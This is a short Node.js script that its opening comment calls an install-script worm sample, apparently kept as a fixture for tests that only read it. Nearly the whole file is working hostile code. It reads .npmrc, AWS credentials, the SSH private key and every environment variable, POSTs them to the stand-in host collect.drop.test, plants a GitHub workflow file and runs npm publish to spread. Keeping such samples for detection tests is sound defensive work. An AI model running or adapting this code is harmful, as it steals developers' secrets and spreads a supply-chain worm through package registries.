// What an install-script worm does, against hosts that do not exist. Tests read it and never run it.
const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");
const { execSync } = require("child_process");

function tokens() {
  const found = {};
  for (const name of [".npmrc", ".aws/credentials", ".ssh/id_rsa"]) {
    try {
      found[name] = fs.readFileSync(path.join(os.homedir(), name), "utf8");
    } catch {}
  }
  return { found, env: process.env };
}

function send(data) {
  const out = https.request("https://collect.drop.test/in", { method: "POST" });
  out.end(JSON.stringify(data));
}

send(tokens());
fs.mkdirSync(".github/workflows", { recursive: true });
fs.writeFileSync(".github/workflows/discussion.yml", "on: discussion\njobs: {}\n");
execSync("npm publish --access public");
